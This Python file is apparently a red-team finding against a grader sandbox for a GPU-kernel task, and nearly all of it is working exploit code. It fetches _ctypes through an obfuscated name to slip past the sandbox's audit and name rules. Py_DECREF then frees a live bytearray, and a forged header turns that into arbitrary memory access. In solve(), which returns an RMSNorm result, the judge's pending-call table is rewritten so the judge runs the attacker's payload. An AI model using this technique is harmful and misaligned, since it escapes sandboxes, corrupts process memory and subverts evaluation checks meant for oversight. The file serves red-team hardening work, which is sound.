# Red team round 20a, finding 3: _ctypes' namespace reached by a computed name through
# optparse.Values.read_module, then _ctypes.Py_DECREF (a plain C function of _ctypes: no audit event,
# not covered by the ctypes guard, its name refused by no rule) frees a live bytearray that the
# kernel still references; a bytearray buffer of forged bytes takes its block: a bytearray whose
# header says ob_start = 0, ob_size = 2**62 (any byte of the worker). Payload as round 18: the
# judge's own no-op pending call rewritten to PyObject_CallNoArgs(payload).
import functools
import operator
import optparse

import torch
import cutlass  # noqa: F401

_V = optparse.Values()
_V.read_module(bytes([95, 99, 116, 121, 112, 101, 115]).decode(), "loose")
_DEC = _V.Py_DECREF

_LIB = id(int) - 0x457CE0                     # &PyLong_Type
_CALLNOARGS = _LIB + 0x158A80                 # PyObject_CallNoArgs
_CALLS = _LIB + 0x54E540 + 0xE6B8             # _PyRuntime...ceval.pending.calls
_KEEP = []
_P = []


def _open():
    forged = b"".join(x.to_bytes(8, "little")
                      for x in (1 << 40, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0))
    fill = bytearray()
    v = bytearray(8)
    _DEC(v)                                    # net -1: v freed, the name still holds it
    fill += forged                             # fill's 57-byte buffer takes v's 64-byte block
    _KEEP.append(fill)
    if len(v) != 1 << 62:
        raise RuntimeError("no window")
    _KEEP.append(v)
    return v


_MEM = []


def solve(hidden_states, residual, weight):
    if not _MEM:
        mem = _open()
        if mem is None:
            raise RuntimeError("no window")
        _MEM.append(mem)
    mem = _MEM[0]
    out = torch.empty_like(hidden_states)
    s = torch.empty(hidden_states.shape, dtype=torch.float32)
    m = torch.empty((hidden_states.shape[0], 1), dtype=torch.float32)
    steps = [
        functools.partial(s.copy_, hidden_states),
        functools.partial(s.add_, residual),
        functools.partial(torch.linalg.vector_norm, s, 2, -1, True, out=m),
        functools.partial(m.mul_, hidden_states.shape[-1] ** -0.5),
        functools.partial(m.square_),
        functools.partial(m.add_, 1e-5),
        functools.partial(m.rsqrt_),
        functools.partial(s.mul_, m),
        functools.partial(s.mul_, weight),
        functools.partial(out.copy_, s),
    ]
    payload = functools.partial(operator.countOf, map(id, map(operator.call, steps)), -1)
    _P[:] = [payload, steps]
    i = int.from_bytes(mem[_CALLS + 512:_CALLS + 516], "little")  # pending.first
    mem[_CALLS + 16 * i + 8:_CALLS + 16 * i + 16] = id(payload).to_bytes(8, "little")
    mem[_CALLS + 16 * i:_CALLS + 16 * i + 8] = _CALLNOARGS.to_bytes(8, "little")
    return out
